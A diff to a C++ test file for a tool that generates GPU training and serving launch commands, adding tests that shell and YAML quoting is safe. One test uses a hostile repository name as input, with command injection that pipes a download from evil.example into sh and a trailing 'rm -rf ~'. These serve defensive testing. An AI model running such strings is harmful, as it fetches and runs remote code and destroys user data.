@@ -138,8 +138,11 @@ TEST_CASE("launch: training gets a DeepSpeed config, its torchrun line and a LLa
   const std::string accum = n(static_cast<std::int64_t>(r.g.microbatches));
   CHECK(r.launch[0].kind == LaunchKind::DeepSpeed);
   CHECK(r.launch[0].file == "ds_config.json");
+  // DeepSpeed's config reference: train_micro_batch_size_per_gpu, gradient_accumulation_steps,
+  // bf16.enabled, zero_optimization.stage; written by the JSON writer, indented by 2.
   CHECK(r.launch[0].text == "{\n  \"train_micro_batch_size_per_gpu\": 2,\n  \"gradient_accumulation_steps\": " + accum +
-                                ",\n  \"bf16\": {\"enabled\": true},\n  \"zero_optimization\": {\"stage\": 2}\n}\n");
+                                ",\n  \"bf16\": {\n    \"enabled\": true\n  },\n  \"zero_optimization\": {\n    \"stage\": 2\n  }\n}\n");
+  CHECK(r.launch[0].argv.empty());
   CHECK(r.launch[1].text == "torchrun --nnodes 1 --nproc_per_node 2 train.py --deepspeed ds_config.json");
   CHECK(r.launch[2].text == "# FORCE_TORCHRUN=1 llamafactory-cli train cardfit.yaml\n"
                             "model_name_or_path: Qwen/Qwen2.5-7B-Instruct\n"
@@ -230,4 +233,92 @@ TEST_CASE("launch: nothing for rows that do not fit or engines without a command
   Scenario t;
   t.engine = "transformers";
   CHECK(row(t, "a100-80g").launch.empty());
+}
+
+// Issue 32: a command is exactly what it says. The words are quoted for POSIX sh only where
+// needed; a repository that passes no check (an overlay's, a config's) stays one word.
+TEST_CASE("launch: words quoted for sh, variables left to the shell") {
+  CHECK(sh_word({"Qwen/Qwen2.5-7B-Instruct", false}) == "Qwen/Qwen2.5-7B-Instruct");
+  CHECK(sh_word({"1,1", false}) == "1,1");
+  CHECK(sh_word({"", false}) == "''");
+  CHECK(sh_word({"a b", false}) == "'a b'");
+  CHECK(sh_word({"it's", false}) == "'it'\\''s'");
+  CHECK(sh_word({"$(touch /tmp/p)", false}) == "'$(touch /tmp/p)'");
+  CHECK(sh_word({"x\ny", false}) == "'x\ny'");
+  CHECK(sh_word({"~root", false}) == "'~root'");
+  CHECK(sh_word({"NODE_RANK", true}) == "\"$NODE_RANK\"");
+  CHECK(render_sh({{"torchrun", false}, {"--node_rank", false}, {"NODE_RANK", true}}) == "torchrun --node_rank \"$NODE_RANK\"");
+}
+
+TEST_CASE("launch: a hostile repository name stays one quoted word, in every engine's command") {
+  Catalog c = catalog();
+  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
+  REQUIRE(m != nullptr);
+  const std::string evil = "meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #";
+  m->hf_repo = evil;
+  m->awq_repo = evil + "\nrm -rf ~";
+  m->gguf_repo = "it's";
+  const std::string quoted = "'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #'";
+  for (const char* engine : {"vllm", "sglang", "tensorrt-llm", "lmdeploy", "llama.cpp"}) {
+    Scenario s;
+    s.engine = engine;
+    s.precision = std::string(engine) == "llama.cpp" ? "q4_k_m" : "bf16";
+    s.gpu = "a100-80g";
+    s.explain = false;
+    const Estimate e = run(s);
+    const std::vector<LaunchCommand> l = launch_commands(c, e.scenario, e.gpus.at(0));
+    REQUIRE(l.size() == 1);
+    CAPTURE(l[0].text);
+    if (std::string(engine) == "llama.cpp") {
+      CHECK(l[0].text.rfind("llama-server -hf 'it'\\''s:Q4_K_M' -ngl ", 0) == 0);
+    } else {
+      CHECK(l[0].text.find(" " + quoted + " ") != std::string::npos);
+    }
+  }
+  Scenario s;
+  s.precision = "int4";
+  s.gpu = "a100-80g";
+  s.explain = false;
+  const Estimate e = run(s);
+  const std::string t = launch_commands(c, e.scenario, e.gpus.at(0)).at(0).text;
+  CHECK(t.rfind("vllm serve 'meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #\nrm -rf ~' ", 0) == 0);
+
+  s.task = Task::Lora;
+  s.precision = "bf16";
+  s.cards = 1;
+  const Estimate lora = run(s);
+  const std::vector<LaunchCommand> l = launch_commands(c, lora.scenario, lora.gpus.at(0));
+  REQUIRE(l.size() == 3);
+  CHECK(l[2].text.find("model_name_or_path: \"meta-llama/x $(touch /tmp/p) ; curl -s evil.example|sh #\"\n") !=
+        std::string::npos);
+}
+
+TEST_CASE("launch: a YAML value that YAML would read as another type is quoted") {
+  Catalog c = catalog();
+  Model* m = const_cast<Model*>(c.find_model("qwen2.5-7b"));
+  m->hf_repo = "yes";
+  Scenario s;
+  s.task = Task::Lora;
+  s.gpu = "a100-80g";
+  s.cards = 1;
+  s.explain = false;
+  const Estimate e = run(s);
+  const std::vector<LaunchCommand> l = launch_commands(c, e.scenario, e.gpus.at(0));
+  REQUIRE(l.size() == 3);
+  CHECK(l[2].text.find("model_name_or_path: \"yes\"\n") != std::string::npos);
+}
+
+TEST_CASE("launch: several machines read their rank and the master's address from the shell") {
+  Scenario s;
+  s.task = Task::Full;
+  s.model = "qwen2.5-7b";
+  s.cards = 16;
+  s.tensor_parallel = 1;  // data parallel: DeepSpeed over torchrun
+  s.zero_stage = 3;
+  const Row r = row(s, "a100-80g");
+  REQUIRE(r.launch.size() == 3);
+  CHECK(r.launch[1].text == "torchrun --nnodes 2 --nproc_per_node 8 --node_rank \"$NODE_RANK\" --master_addr \"$MASTER_ADDR\" "
+                            "--master_port 29500 train.py --deepspeed ds_config.json");
+  REQUIRE(r.launch[1].argv.size() == 14);
+  CHECK(r.launch[1].argv[6] == ShellWord{"NODE_RANK", true});
 }
